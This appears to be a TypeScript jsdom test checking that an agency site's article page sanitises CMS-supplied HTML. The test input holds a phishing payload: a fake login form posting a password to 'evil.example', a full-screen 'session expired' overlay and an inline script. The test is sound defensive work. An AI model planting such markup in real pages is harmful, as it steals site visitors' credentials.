import { pagePerTest, render, within } from '../support/dom.js';
import { expect } from 'chai';
import { decodeSiteSettings } from '../../../core/settings/settings.codec.js';
import { ContentPageView } from '../../../ui/pages/content-page.view.js';
import { contentPageViewModel } from '../../../ui/pages/content-page.view-model.js';

/** An article page whose body holds what an agency's CMS (or an attacker with its password) might put there. */
function articleSettings(body: string) {
  return decodeSiteSettings({
    agency_name: 'Oakfield',
    page: {
      identifier: 'articles#show',
      path: '/articles/spring-update',
      title: 'Spring update',
      data: { article: { title: 'Spring update', body } },
    },
  }).settings;
}

/** Waits (up to 5 s: the sanitiser is its own chunk, compiled on first use) until the sanitised body shows its text. */
async function bodyOf(container: HTMLElement, text: string): Promise<HTMLElement> {
  const shown = await within(container).findByText(text, undefined, { timeout: 5000 });
  const body = shown.closest<HTMLElement>('.article__body');
  if (body === null) throw new Error(`'${text}' is not in the article body`);
  return body;
}

describe('an article page (jsdom)', () => {
  pagePerTest({ url: 'https://agency.test/articles/spring-update' });

  it('goes through the one sanitiser: no forms, no password fields, no fixed overlays, no scripts', async () => {
    const vm = contentPageViewModel(
      articleSettings(
        '<p>Prices rose in spring.</p><form action="https://evil.example"><input name="password" type="password"><button>Log in</button></form>' +
          '<div style="position:fixed;inset:0">Your session expired</div><script>window.ran = true</script><a href="/valuation">Book a valuation</a>',
      ),
      [],
    );
    const view = await render(<ContentPageView vm={vm} />);
    const body = await bodyOf(view.container, 'Prices rose in spring.');
    expect(body.querySelector('form, input, button, script')).to.equal(null);
    expect(body.querySelector('[style]')).to.equal(null);
    expect(body.textContent).to.contain('Prices rose in spring.');
    expect(body.querySelector('a')?.getAttribute('rel')).to.equal('noopener');
  });
});
